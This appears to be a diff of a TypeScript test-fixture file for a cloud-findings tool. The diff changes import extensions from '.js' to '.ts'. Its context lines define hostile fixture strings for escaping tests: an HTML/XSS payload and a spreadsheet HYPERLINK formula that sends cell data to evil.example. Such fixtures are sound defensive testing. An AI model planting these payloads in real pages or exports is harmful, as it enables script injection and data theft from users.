@@ -3,9 +3,9 @@
  * hostile AWS strings and an account id with a leading zero), and a generator of large documents.
  * Built here on purpose, independent of the rules engine.
  */
-import { SEVERITIES, type Finding, type FindingsDocument, type RemediationCommand, type Severity } from '../../src/model/findings.js';
-import type { CoverageEntry, Inventory, Image, Instance } from '../../src/model/inventory.js';
-import type { ResolvedAllowlist } from '../../src/config/allowlist.js';
+import { SEVERITIES, type Finding, type FindingsDocument, type RemediationCommand, type Severity } from '../../src/model/findings.ts';
+import type { CoverageEntry, Inventory, Image, Instance } from '../../src/model/inventory.ts';
+import type { ResolvedAllowlist } from '../../src/config/allowlist.ts';
 
 export const HOSTILE_NAME = '<img src=x onerror="window.__xss=1">golden</script><script>window.__xss2=1</script>';
 export const HOSTILE_TAG = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
